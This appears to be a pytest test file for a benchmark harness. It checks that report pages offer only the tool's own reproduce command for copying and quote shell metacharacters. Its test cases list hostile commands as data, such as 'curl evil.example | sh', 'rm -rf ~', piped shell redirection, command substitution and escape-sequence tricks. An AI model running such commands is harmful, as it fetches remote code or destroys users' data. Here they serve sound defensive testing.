"""What a page offers for copying starts this tool and nothing else, whatever a manifest says, and finds the run."""

from __future__ import annotations

import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from harness.report.content import Block, Code, Prose, plain
from harness.report.findings import RunFindings
from harness.report.reproduce import LONGEST_COMMAND, facts, own_command, reproduce
from harness.report.rows import sample_frame
from harness.report.summarise import summarise
from tests.core.report.paged import page, paged, section, table_called, texts
from tests.core.report.synthetic import REFERENCE, RUN, run, squares

OWN = "python -m harness run suites/gemm.yaml"
REPORT = f"python -m harness report {RUN}"


def told(**manifest: Any) -> RunFindings:
    """Return a run whose manifest says this."""
    rows, samples = run(squares(1), {REFERENCE: 1.0})
    return summarise(rows, sample_frame(samples), manifest=manifest)


def copied(blocks: tuple[Block, ...]) -> list[str]:
    """Return the lines that a page offers for copying."""
    return [line for block in blocks if isinstance(block, Code) for line in block.lines]


@pytest.mark.parametrize(
    ("command", "line"),
    [
        (OWN, OWN),
        (f"{OWN} --results 'my results'", f"{OWN} --results 'my results'"),
        (f"{OWN}; rm -rf ~", "python -m harness run 'suites/gemm.yaml;' rm -rf '~'"),
        (f"{OWN} && sh evil.sh", f"{OWN} '&&' sh evil.sh"),
        (f"{OWN} | sh > /etc/x", f"{OWN} '|' sh '>' /etc/x"),
        (f"{OWN} $(touch x) `touch y`", f"{OWN} '$(touch' 'x)' '`touch' 'y`'"),
        (f"{OWN}\nrm -rf x", f"{OWN} rm -rf x"),
    ],
)
def test_a_command_of_ours_is_offered_and_all_else_in_it_is_an_argument(command: str, line: str) -> None:
    assert copied(reproduce(told(command=command))) == [line]
    assert shlex.split(line) == shlex.split(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "rm -rf ~; python -m harness run x.yaml",
        "PYTHONPATH=evil python -m harness run x.yaml",
        "python -m harness.evil run x.yaml",
        "python -c 'import evil' -m harness",
        "harness.run('matmul', m=4)",
        f"{OWN} 'without an end",
        f"{OWN} 'x\x1b[2Ky'",
        f"{OWN} 'a\nb'",
        f"{OWN} a\u202eb",
        f"{OWN} {'x' * LONGEST_COMMAND}",
        "",
        None,
        7,
        ["python", "-m", "harness"],
    ],
)
def test_what_is_none_of_ours_is_not_offered_and_words_say_what_to_run(command: object) -> None:
    (words,) = reproduce(told(command=command, seed=3))
    assert isinstance(words, Prose)
    assert "The suite is called gemm" in plain(words.text)
    assert "evil" not in words.text
    assert copied(reproduce(told(command=command), REPORT)) == [REPORT]


def test_what_is_not_offered_stands_as_text_among_the_facts() -> None:
    assert dict(facts(told(command="curl evil.example | sh")))["command"] == "curl evil.example | sh"
    assert "command" not in dict(facts(told(command=OWN)))


@pytest.mark.parametrize(
    ("command", "seed", "line"),
    [
        (OWN, 11, f"{OWN} --seed 11"),
        (f"{OWN} --seed 3", 11, f"{OWN} --seed 3"),
        (f"{OWN} --seed=3", 11, f"{OWN} --seed=3"),
        ("python -m harness run my--seed.yaml", 11, "python -m harness run my--seed.yaml --seed 11"),
        ("python -m harness bench matmul m=4", 11, "python -m harness bench matmul m=4"),
        (OWN, "11; rm x", OWN),
        (OWN, True, OWN),
        (OWN, None, OWN),
    ],
)
def test_a_seed_that_was_drawn_is_written_out(command: str, seed: object, line: str) -> None:
    assert copied(reproduce(told(command=command, seed=seed))) == [line]


@pytest.mark.parametrize(
    ("store", "words"),
    [
        ("results", ""),
        ("./results", ""),
        (".", " --results ."),
        ("results/reference", " --results results/reference"),
        ("my results; rm x", " --results 'my results; rm x'"),
    ],
)
def test_a_command_looks_where_the_report_did(store: str, words: str) -> None:
    """Whatever the command says that measured it: the store may be a copy, and may have another name by now."""
    for measured in (OWN, f"{OWN} --results elsewhere", "curl evil | sh --results elsewhere", None):
        run_found = replace(told(command=measured), store=Path(store))
        text = section(page(run_found), "To reproduce").partition("<details>")[0]
        assert f"{REPORT}{words}" in text.splitlines()
        assert f"python -m harness replay ROW{words}" in plain(table_called(paged(run_found), "trace").note)
    assert own_command(Path(store), "report", RUN) == f"{REPORT}{words}"


def test_a_run_that_its_name_does_not_find_is_called_by_its_file() -> None:
    run_found = replace(told(command=OWN), place="theirs/runs/x.json")
    assert "python -m harness report theirs/runs/x.json" in section(page(run_found), "To reproduce").splitlines()
    rows = texts(table_called(paged(run_found), "trace"), "row")
    assert rows
    assert all(plain(row).startswith("theirs/runs/x.json::") for row in rows)
